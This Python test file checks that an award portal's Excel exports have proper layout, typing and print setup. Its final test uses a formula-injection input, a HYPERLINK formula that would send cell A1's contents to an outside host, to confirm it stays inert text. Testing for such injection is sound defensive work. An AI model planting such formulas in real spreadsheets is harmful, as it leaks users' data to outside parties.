"""Every workbook the portal serves is laid out as a clerk would file it.

Each export URL (the same list the spreadsheet-injection test keeps complete) is fetched over
that test's world (the permission matrix's, with names that look like formulas) and opened
with openpyxl. On every sheet: a Chinese name; the
header row bold and frozen, with an auto filter over the rows; dates and times as real dates
and numbers as numbers, each with its number format (no cell holds "2023-03-01" or "85.5" as
text); columns as wide as their content, Chinese characters counted double; long text wrapped
in a row tall enough for its lines; and the print setup: A4 landscape, fit to the page's
width, the header row repeated and "第 &P 页 共 &N 页" centred at the foot. The layout's rules
(local time, widths, row heights, text that looks like a formula) are checked on their own.
"""

from __future__ import annotations

import io
import re
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
import time_machine
from django.urls import reverse
from openpyxl import load_workbook

from award_portal.documents import excel
from tests.badinput import test_spreadsheet_injection as injection
from tests.clock import moment
from tests.matrix.test_permission_matrix import MATRIX, WORLD_DAY, page_roles, sign_in
from tests.matrix.world import ANONYMOUS

pytestmark = pytest.mark.django_db

OPINION = (
    "经初核，该单位申报材料完整、真实、准确、合法，近三年未发生重大质量、安全、环境污染、"
    "公共卫生等事故，无违法违规行为，质量管理体系健全，经营业绩在同行业中处于领先水平，"
    "自评报告内容翔实，同意推荐参加第三届攀枝花市政府质量奖评选。"
)
EXPORTS = injection.EXPORTS
world = injection.world  # the module's world, built once: the fixture of that test

CHINESE = re.compile(r"[\u4e00-\u9fff]")
DATE_AS_TEXT = re.compile(
    r"^\d{4}-\d{2}-\d{2}( \d{2}:\d{2}(:\d{2})?)?$|^\d{4}年\d{1,2}月\d{1,2}日$"
)
NUMBER_AS_TEXT = re.compile(r"^-?\d+(\.\d+)?%?$")


def _fetch(world, name: str):
    role = sorted(page_roles(name) - {ANONYMOUS})[0]
    row = MATRIX[name]
    url = reverse(name, kwargs=row.kwargs(world) if row.kwargs else None)
    with time_machine.travel(moment(WORLD_DAY), tick=True):
        response = sign_in(world.users[role]).get(url)
    assert response.status_code == 200
    return load_workbook(io.BytesIO(response.content))


def _header_row(sheet) -> int:
    """Row 3 under a title and its export time, else row 1."""
    return 3 if any(str(r).startswith("A1:") for r in sheet.merged_cells.ranges) else 1


def _check_sheet(sheet) -> int:
    """Check one sheet's layout; the number of typed cells (dates, numbers) it holds."""
    assert CHINESE.search(sheet.title), sheet.title
    top = _header_row(sheet)
    last = sheet.max_column
    headers = [c for c in sheet[top] if c.value is not None]
    assert len(headers) == last
    assert all(c.font.b for c in headers)
    assert sheet.freeze_panes == f"A{top + 1}"
    ref = sheet.auto_filter.ref
    assert ref and ref.startswith(f"A{top}:{excel.get_column_letter(last)}"), ref

    setup = sheet.page_setup
    assert (setup.orientation, int(setup.paperSize)) == ("landscape", 9)
    assert sheet.sheet_properties.pageSetUpPr.fitToPage
    assert (int(setup.fitToWidth), int(setup.fitToHeight)) == (1, 0)
    assert sheet.print_title_rows == f"${top}:${top}"
    assert sheet.oddFooter.center.text == "第 &P 页 共 &N 页"

    typed = 0
    for column in range(1, last + 1):
        letter = excel.get_column_letter(column)
        width = sheet.column_dimensions[letter].width
        header = str(sheet.cell(row=top, column=column).value)
        assert width >= excel.display_width(header) + 2, (sheet.title, header, width)
        for row in range(top + 1, sheet.max_row + 1):
            cell = sheet.cell(row=row, column=column)
            value = cell.value
            if isinstance(value, str):
                assert not DATE_AS_TEXT.match(value), (sheet.title, cell.coordinate, value)
                assert not NUMBER_AS_TEXT.match(value), (sheet.title, cell.coordinate, value)
                needed = excel.display_width(max(value.split("\n"), key=excel.display_width))
                assert width >= min(needed + 2, excel.MAX_WIDTH), (cell.coordinate, width)
                lines = excel.line_count(value, width)
                if lines > 1:
                    assert cell.alignment.wrap_text
                    height = sheet.row_dimensions[row].height
                    assert height and height >= lines * excel.LINE_HEIGHT, (cell.coordinate,)
            elif isinstance(value, datetime):
                assert cell.number_format in (
                    excel.DATE_FORMAT,
                    excel.DATETIME_FORMAT,
                    excel.CHINESE_DATE_FORMAT,
                ), (cell.coordinate, cell.number_format)
                typed += 1
            elif isinstance(value, int | float) and not isinstance(value, bool):
                assert cell.number_format != "General", (cell.coordinate,)
                typed += 1
    return typed


@pytest.mark.parametrize("name", sorted(EXPORTS))
def test_every_sheet_of_every_export_is_laid_out_for_reading_and_print(world, name):
    workbook = _fetch(world, name)

    typed = sum(_check_sheet(sheet) for sheet in workbook.worksheets)

    rows = sum(sheet.max_row - _header_row(sheet) for sheet in workbook.worksheets)
    if rows and name != "review:expert_import_template":
        assert typed > 0  # 序号, counts, scores or dates


# --- the layout itself -----------------------------------------------------------------------


def _table(rows, **kwargs):
    wb = excel.workbook(write_only=True)
    excel.table(wb, title="清单", headers=["名称", "时间", "分数", "意见"], rows=rows, **kwargs)
    return load_workbook(io.BytesIO(excel.to_bytes(wb)))["清单"]


def test_moments_are_written_in_shanghai_time_without_a_zone():
    # 23:30 on 1 March in UTC is 07:30 on 2 March in Shanghai.
    sheet = _table([["攀钢", datetime(2023, 3, 1, 23, 30, tzinfo=UTC), Decimal("85.5"), ""]])

    assert sheet["B2"].value == datetime(2023, 3, 2, 7, 30)
    assert sheet["B2"].number_format == "yyyy-mm-dd hh:mm"
    assert (sheet["C2"].value, sheet["C2"].number_format) == (85.5, "0.00")


def test_a_chinese_character_counts_two_digits_of_width():
    sheet = _table([["攀枝花钢铁集团有限公司", date(2023, 3, 1), 1, "同意"]])

    assert sheet.column_dimensions["A"].width == 2 * 11 + 2
    assert sheet.column_dimensions["B"].width == 10 + 2
    assert sheet["B2"].number_format == "yyyy-mm-dd"
    assert sheet["C2"].number_format == "0"


def test_a_long_opinion_wraps_in_a_row_tall_enough_and_a_short_row_keeps_its_height():
    sheet = _table([["攀钢", None, None, OPINION], ["东区", None, None, "同意"]])

    width = sheet.column_dimensions["D"].width
    lines = excel.line_count(OPINION, width)
    assert width == excel.MAX_WIDTH
    assert lines >= 4
    assert sheet.row_dimensions[2].height >= lines * excel.LINE_HEIGHT
    assert sheet.row_dimensions[3].height is None
    assert sheet["D2"].alignment.wrap_text


def test_a_formula_like_name_stays_text_in_a_table():
    sheet = _table([['=HYPERLINK("http://x?"&A1,"点击核对")', None, -5, "@SUM(A1)"]])

    assert [(c.value, c.data_type) for c in sheet[2]] == [
        ('=HYPERLINK("http://x?"&A1,"点击核对")', "s"),
        (None, "n"),
        (-5, "n"),
        ("@SUM(A1)", "s"),
    ]
